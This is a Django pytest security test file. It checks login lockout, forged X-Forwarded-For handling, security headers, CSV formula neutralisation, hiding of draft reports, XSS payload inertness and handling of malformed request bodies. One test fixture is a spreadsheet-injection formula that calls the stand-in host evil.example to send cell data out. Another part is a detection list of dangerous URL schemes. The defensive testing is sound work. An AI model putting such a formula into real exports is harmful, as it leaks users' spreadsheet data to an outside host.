"""Brute force, forged addresses and what the public may not learn."""

import csv
import io
import logging
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from gtmp_site.core.prose import ALLOWED_TAGS
from tests.factories import EditorFactory, publish
from tests.xss_payloads import PAYLOADS

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "correct horse battery"
TOKEN = "/api/v1/auth/token/"


def admin_login(client, username, password, **headers):
    return client.post(
        reverse("admin:login"), {"username": username, "password": password}, **headers
    )


def test_the_admin_login_locks_an_account_after_five_failures_even_for_the_right_password(
    client, caplog
):
    editor = EditorFactory()
    with caplog.at_level(logging.WARNING, logger="axes"):
        codes = [admin_login(client, editor.username, "wrong").status_code for _ in range(5)]
    assert codes == [200, 200, 200, 200, 429]
    assert sum("failure" in r.getMessage().lower() for r in caplog.records) >= 5
    response = admin_login(client, editor.username, PASSWORD)
    assert response.status_code == 429
    assert "Too many failed logins" in response.content.decode()


def test_the_lock_is_per_address_so_a_colleague_elsewhere_still_logs_in(client):
    editor = EditorFactory()
    for _ in range(5):
        admin_login(client, editor.username, "wrong")
    elsewhere = admin_login(client, editor.username, PASSWORD, REMOTE_ADDR="198.51.100.7")
    assert elsewhere.status_code == 302


def test_a_forged_x_forwarded_for_does_not_escape_the_lock(client):
    editor = EditorFactory()
    for n in range(5):
        admin_login(client, editor.username, "wrong", HTTP_X_FORWARDED_FOR=f"203.0.113.{n}")
    forged = admin_login(client, editor.username, PASSWORD, HTTP_X_FORWARDED_FOR="203.0.113.99")
    assert forged.status_code == 429


# Behind one proxy (Varnish) that appends its peer to X-Forwarded-For: what the
# client wrote stands left of it, and REMOTE_ADDR is the proxy.
BEHIND_PROXY = {"REMOTE_ADDR": "127.0.0.1"}


@pytest.mark.parametrize(
    ("forwarded", "client"),
    [
        ("198.51.100.7", "198.51.100.7"),  # as the proxy wrote it
        ("203.0.113.9, 198.51.100.7", "198.51.100.7"),  # a forged entry before it
        ("203.0.113.9,198.51.100.7", "198.51.100.7"),
        ("", "127.0.0.1"),  # not through the proxy: its own address, never ""
        ("not-an-address", "127.0.0.1"),
    ],
)
def test_one_client_address_behind_a_proxy(rf, settings, forwarded, client):
    from gtmp_site.core.http import client_address

    settings.TRUSTED_PROXIES = 1
    request = rf.get("/", HTTP_X_FORWARDED_FOR=forwarded, **BEHIND_PROXY)
    assert client_address(request) == client


def test_behind_a_proxy_the_lock_out_and_the_budget_follow_the_real_address(
    client, api, settings, monkeypatch
):
    """Forged first entries neither escape the lock nor buy a budget; another real
    address is not locked (no shared bucket)."""
    from rest_framework.throttling import SimpleRateThrottle

    monkeypatch.setattr(SimpleRateThrottle, "THROTTLE_RATES", {"anon": "3/minute"})
    settings.TRUSTED_PROXIES = 1
    editor = EditorFactory()

    def forged(n, real="198.51.100.7"):
        return {"HTTP_X_FORWARDED_FOR": f"203.0.113.{n}, {real}", **BEHIND_PROXY}

    for n in range(5):
        admin_login(client, editor.username, "wrong", **forged(n))
    assert admin_login(client, editor.username, PASSWORD, **forged(99)).status_code == 429
    elsewhere = admin_login(client, editor.username, PASSWORD, **forged(1, real="192.0.2.4"))
    assert elsewhere.status_code == 302
    codes = [api.get("/api/v1/companies/", **forged(n)).status_code for n in range(5)]
    assert codes == [200, 200, 200, 429, 429]


def test_the_token_login_locks_too_and_says_so(api):
    editor = EditorFactory()
    wrong = {"username": editor.username, "password": "wrong"}
    codes = [api.post(TOKEN, wrong).status_code for _ in range(5)]
    assert codes[:4] == [401, 401, 401, 401]
    right = api.post(TOKEN, {"username": editor.username, "password": PASSWORD})
    assert right.status_code == 429
    assert "locked" in right.json()["detail"]


def production_env():
    """The minimal production set-up exactly as docs/deployment.md gives it."""
    text = (ROOT / "docs" / "deployment.md").read_text()
    block = re.search(r"```env\n(.*?)```", text, re.S).group(1)
    return dict(line.split("=", 1) for line in block.splitlines() if line)


def test_the_documented_production_settings_pass_check_deploy_with_no_warning():
    env = {k: v for k, v in os.environ.items() if not k.startswith("DJANGO_")}
    env.update(production_env(), DATABASE_URL="sqlite:///unused.sqlite3", REDIS_URL="")
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_without_the_https_settings_check_deploy_names_what_is_missing():
    env = {k: v for k, v in os.environ.items() if not k.startswith("DJANGO_")}
    env.update(DJANGO_SECRET_KEY=production_env()["DJANGO_SECRET_KEY"])
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert "security.W004" in result.stderr + result.stdout
    assert "security.W008" in result.stderr + result.stdout


HEADERS = {
    "X-Content-Type-Options": "nosniff",
    "X-Frame-Options": "DENY",
    "Cross-Origin-Opener-Policy": "same-origin",
    "Referrer-Policy": "same-origin",
}
CSP_RULES = [
    "default-src 'none'", "script-src 'self'", "object-src 'none'", "base-uri 'none'",
    "frame-ancestors 'none'", "form-action 'self'",
]  # fmt: skip


# Other sites may read and embed the API and the downloads (tests/test_cors.py).
SHARED = "cross-origin"


@pytest.mark.parametrize(
    ("path", "resource_policy"),
    [
        ("/", "same-origin"),
        ("/reports/us-gene-therapy-medicinal-products-market/", "same-origin"),
        ("/reports/us-gene-therapy-medicinal-products-market/data.csv", SHARED),
        ("/api/v1/reports/", SHARED),
        ("/api/v1/schema/", SHARED),
        ("/api/v1/docs/", "same-origin"),
        ("/api/v1/docs/explorer/", "same-origin"),
        ("/api/v1/redoc/", "same-origin"),
        ("/admin/login/", "same-origin"),
        ("/no-such-page/", "same-origin"),
        ("/api/v1/no-such-endpoint/", SHARED),
        ("/static/favicon.svg", "same-origin"),
    ],
)
def test_every_kind_of_response_carries_the_security_headers(client, report, path,
                                                              resource_policy):  # fmt: skip
    response = client.get(path)
    response.close()  # a static file is streamed
    assert response["Cross-Origin-Resource-Policy"] == resource_policy
    for name, value in HEADERS.items():
        assert response[name] == value, name
    csp = response["Content-Security-Policy"]
    for rule in CSP_RULES:
        assert rule in csp
    assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    assert "camera=()" in response["Permissions-Policy"]


def test_hsts_is_sent_over_https_once_configured(client, report, settings):
    settings.SECURE_HSTS_SECONDS = 31536000
    settings.SECURE_HSTS_INCLUDE_SUBDOMAINS = True
    response = client.get("/", secure=True)
    assert response["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    assert "Strict-Transport-Security" not in client.get("/")


# Spreadsheet formulas ------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_formula_in_a_source_is_inert_in_the_public_csv(client, report):
    from market.models import MarketFigure

    MarketFigure.objects.filter(report=report, year=2030, segment=None).update(source=FORMULA)
    publish(report)
    body = client.get(f"{report.get_absolute_url()}data.csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_admin_export_neutralises_formulas_and_its_re_import_restores_the_text(editor, report):
    from market.models import MarketFigure

    figure = MarketFigure.objects.filter(report=report, segment=None).first()
    MarketFigure.objects.filter(pk=figure.pk).update(source=FORMULA, note="-5 % on 2023 @ cost")
    columns = ["report", "segment", "year", "value", "kind", "source", "note", "version"]
    exported = editor.post(
        "/admin/market/marketfigure/export/",
        {"format": "0", **{f"marketfigureresource_{c}": "on" for c in columns}},
    ).content.decode()
    rows = csv.DictReader(io.StringIO(exported))
    row = next(r for r in rows if r["year"] == str(figure.year) and not r["segment"])
    assert row["source"] == f"'{FORMULA}"
    assert row["note"] == "'-5 % on 2023 @ cost"

    row["note"] = "'-6 % on 2023 @ cost"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(row))
    writer.writeheader()
    writer.writerow(row)
    upload = SimpleUploadedFile("figures.csv", out.getvalue().encode(), content_type="text/csv")
    preview = editor.post(
        "/admin/market/marketfigure/import/", {"import_file": upload, "format": 0}
    )
    confirm = preview.context["confirm_form"]
    editor.post(
        "/admin/market/marketfigure/process_import/",
        {name: confirm[name].value() for name in confirm.fields},
    )
    figure.refresh_from_db()
    assert (figure.source, figure.note) == (FORMULA, "-6 % on 2023 @ cost")


# Drafts stay unknown ---------------------------------------------------------------------


@pytest.fixture
def draft_only_company(report):
    """A company that only a draft report names, in its list and in its segment."""
    from tests.factories import ReportCompanyFactory, ReportFactory, SegmentFactory

    draft = ReportFactory(draft=True, slug="secret-draft")
    listing = ReportCompanyFactory(report=draft)
    listing.company.segments.add(SegmentFactory(report=draft, slug="secret-segment"))
    return listing.company


def test_a_company_only_a_draft_names_is_nowhere_public(client, api, draft_only_company):
    company = draft_only_company
    assert client.get(company.get_absolute_url()).status_code == 404
    assert company.name not in client.get("/companies/").content.decode()
    assert company.slug not in client.get("/sitemap.xml").content.decode()
    assert api.get(f"/api/v1/companies/{company.slug}/").status_code == 404
    assert company.slug not in api.get("/api/v1/companies/?page_size=100").content.decode()


def test_filtering_by_a_draft_answers_as_for_a_slug_that_does_not_exist(api, draft_only_company):
    from companies.models import ReportCompany

    # A company both reports name: the filter must not tell that the draft lists it too.
    public = ReportCompany.objects.filter(report__status="published").first().company
    ReportCompany.objects.create(report=draft_only_company.listings.get().report, company=public)
    for query in ("report=secret-draft", "segment=secret-segment"):
        name, slug = query.split("=")
        draft = api.get(f"/api/v1/companies/?{query}")
        unknown = api.get(f"/api/v1/companies/?{name}=no-such-slug")
        assert draft.status_code == unknown.status_code == 400, query
        # The same refusal, naming the same known slugs, none of them the draft's.
        assert draft.json()[name][0].replace(slug, "?") == unknown.json()[name][0].replace(
            "no-such-slug", "?"
        )
        assert slug not in draft.json()[name][0].split(";")[1]


def test_editors_see_the_draft_company_through_the_api(editor_api, draft_only_company):
    response = editor_api.get("/api/v1/companies/?report=secret-draft")
    assert [c["slug"] for c in response.json()["results"]] == [draft_only_company.slug]


# Hostile text in every field renders inert ------------------------------------------------

# Free-text fields shown on public pages; choices, slugs and codes are not free text.
TEXT_FIELDS = {
    "market.Region": ["name", "description"],
    "market.Report": ["title", "summary", "methodology", "sources"],
    "market.Segment": ["name", "overview", "outlook"],
    "market.MarketFigure": ["source", "note"],
    "market.ReportSection": ["title", "body"],
    "companies.Company": ["name", "legal_name", "headquarters", "successor", "profile",
                          "facts_source"],
    "faq.Question": ["question", "answer"],
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class Elements(HTMLParser):
    """Every element of a page with its attributes, and script bodies."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def fill_with_payloads(payloads):
    """Every text field of every row gets hostile text: prose fields all of it,
    short fields one payload each that fits. Saved with update(), as a raw
    database write would: no form validation stands in between."""
    from django.apps import apps

    for label, names in TEXT_FIELDS.items():
        model = apps.get_model(label)
        for n, pk in enumerate(model.objects.values_list("pk", flat=True)):
            values = {}
            for name in names:
                field = model._meta.get_field(name)
                if field.max_length:
                    fitting = [p for p in payloads if len(p) + 12 < field.max_length]
                    values[name] = f"{fitting[n % len(fitting)]} #{pk}-{name}"
                else:
                    values[name] = "Safe words.\n\n" + "\n\n".join(payloads)
            model._base_manager.filter(pk=pk).update(**values)  # past the publish gate too


def public_pages(report):
    company = report.top_companies.first().company
    return [
        "/",
        report.get_absolute_url(),
        report.segments.first().get_absolute_url(),
        "/companies/",
        company.get_absolute_url(),
        "/faq/",
    ]


def test_the_payload_corpus_is_large_enough():
    assert len(PAYLOADS) >= 50


def test_hostile_text_in_every_field_renders_inert(client, report):
    pages = public_pages(report)
    baseline = {
        tag for path in pages for tag, _ in Elements(client.get(path).content.decode()).elements
    }
    allowed = baseline | ALLOWED_TAGS
    fill_with_payloads(PAYLOADS)
    for path in pages:
        response = client.get(path)
        assert response.status_code == 200, path
        for tag, attrs in Elements(response.content.decode()).elements:
            where = f"{path}: <{tag} {attrs}>"
            assert tag in allowed, where
            assert not any(name.startswith("on") for name in attrs), where
            for name in URL_ATTRIBUTES & set(attrs):
                # As a browser's URL parser reads it: tabs and newlines removed.
                value = re.sub(r"[\t\n\r]", "", attrs[name] or "").strip().lower()
                assert not value.startswith(BAD_SCHEMES), where
            if tag == "script":
                assert attrs.get("src", "").startswith("/static/") or attrs.get("type") in {
                    "application/json",
                    "application/ld+json",
                }, where


# Bodies of every size and shape a careless or hostile client sends: (content
# type, body). The largest is over DATA_UPLOAD_MAX_MEMORY_SIZE and the API's limit.
LARGE = 3 * 1024 * 1024
BODIES = [
    ("application/json", b""),
    ("application/json", b'{"title": "x"}'),
    ("application/json", b"[" * 5000),
    ("application/json", b'{"a": "' + b"x" * LARGE + b'"}'),
    ("application/x-www-form-urlencoded", b"a=1&" * 5000),
    ("application/x-www-form-urlencoded", b"a=" + b"x" * LARGE),
    ("multipart/form-data; boundary=zz", b"--zz\r\nnot a part\r\n"),
    ("text/csv", b"\x00\xff" * 1000),
]


def test_no_body_of_any_size_or_shape_to_any_url_gives_a_server_error(report):
    """A fixed-seed walk: every public URL the site links to, the API's other
    routes, and the login pages, with each unsafe method and a body drawn from
    BODIES. Nothing answers 5xx; a body over the limit is a 413."""
    import random

    from django.test import Client

    from tests import fresh

    client = Client(raise_request_exception=False)

    def get(path):
        response = client.get(path)
        kind = response.get("Content-Type", "")
        return response.status_code, kind, response.content.decode(errors="replace")

    urls = [*fresh.public_urls(get), TOKEN, "/api/v1/schema/", "/api/v1/redoc/", "/admin/login/"]
    rng = random.Random(20)
    answers = []
    for url in urls:
        for method in ("OPTIONS", "POST", "PUT", "PATCH", "DELETE"):
            kind, body = rng.choice(BODIES)
            status = client.generic(method, url, body, content_type=kind).status_code
            answers.append((method, url, kind, len(body), status))
    assert not [a for a in answers if a[-1] >= 500]
    oversize = [a for a in answers if a[3] > LARGE]
    assert oversize and all(a[-1] == 413 for a in oversize), oversize


def test_a_content_length_that_is_not_a_number_is_a_400(client):
    response = client.post("/api/v1/auth/token/", b"{}", content_type="application/json",
                           CONTENT_LENGTH="12abc")  # fmt: skip
    assert response.status_code == 400 and "Content-Length" in response.json()["detail"]
